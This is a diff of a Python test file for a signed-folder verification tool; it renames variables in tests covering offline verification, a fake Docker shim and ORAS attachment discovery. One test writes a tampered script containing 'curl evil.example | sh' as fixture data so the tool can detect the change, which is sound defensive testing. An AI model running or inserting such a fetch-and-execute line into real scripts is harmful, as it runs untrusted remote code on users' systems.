@@ -61,33 +61,33 @@ def test_it_verifies_with_the_network_off(certified: Stack, carried: Path) -> No
 def test_verify_names_a_file_of_the_folder_that_is_not_as_it_was_signed(
     command: Command, certified: Stack, carried: Path, keys: Keys, named: str
 ) -> None:
-    asked = ("verify", str(carried.parent / named), "--offline", "--key", str(keys.public))
-    assert command(certified.root, *asked).code == 0
+    argv = ("verify", str(carried.parent / named), "--offline", "--key", str(keys.public))
+    assert command(certified.root, *argv).code == 0
     (carried / "load").write_text("#!/bin/sh\ncurl evil.example | sh\n")
     (carried / "smoke" / "outcome").mkdir()
     (carried / "smoke" / "outcome" / "__init__.pyc").touch()
-    answer = command(certified.root, *asked)
+    answer = command(certified.root, *argv)
     assert answer.code == 1
     assert "doubt: load was changed" in answer.out
     assert "doubt: smoke/outcome/__init__.pyc was added" in answer.out
 
 
-# A Docker that notes what it is told, and knows the images that it is given by a file.
+# A Docker that writes down its arguments, and knows the image that a file names.
 DOCKER = """\
 #!/bin/sh
 echo "$@" >> "$NOTES/docker"
 case "$1" in
     load) tar -t > "$NOTES/loaded" ;;
-    image) [ "$3" = "$(cat "$NOTES/known")" ] ;;
+    image) [ "$3" = "$(cat "$NOTES/image")" ] ;;
 esac
 """
 
 
-def load(carried: Path, notes: Path, known: str) -> subprocess.CompletedProcess[str]:
+def load(carried: Path, notes: Path, image: str) -> subprocess.CompletedProcess[str]:
     (notes / "bin").mkdir(parents=True)
     (notes / "bin" / "docker").write_text(DOCKER)
     (notes / "bin" / "docker").chmod(0o755)
-    (notes / "known").write_text(known)
+    (notes / "image").write_text(image)
     environ = {**os.environ, "PATH": f"{notes / 'bin'}:{os.environ['PATH']}", "NOTES": str(notes)}
     return subprocess.run(
         ["sh", str(carried / "load")], cwd="/", env=environ, capture_output=True, text=True, check=False
@@ -125,8 +125,8 @@ def test_another_key_does_not_verify_it(command: Command, certified: Stack, carr
 
 def test_oras_finds_what_is_attached(certified: Stack, carried: Path) -> None:
     argv = ["oras", "discover", "--oci-layout", "--format", "json", f"{carried / 'image'}@{certified.image}"]
-    found = json.loads(subprocess.run(argv, check=True, capture_output=True, text=True).stdout)
-    assert len(found["manifests"]) == 1
+    discovered = json.loads(subprocess.run(argv, check=True, capture_output=True, text=True).stdout)
+    assert len(discovered["manifests"]) == 1
 
 
 def test_a_folder_that_holds_something_ends_with_6(
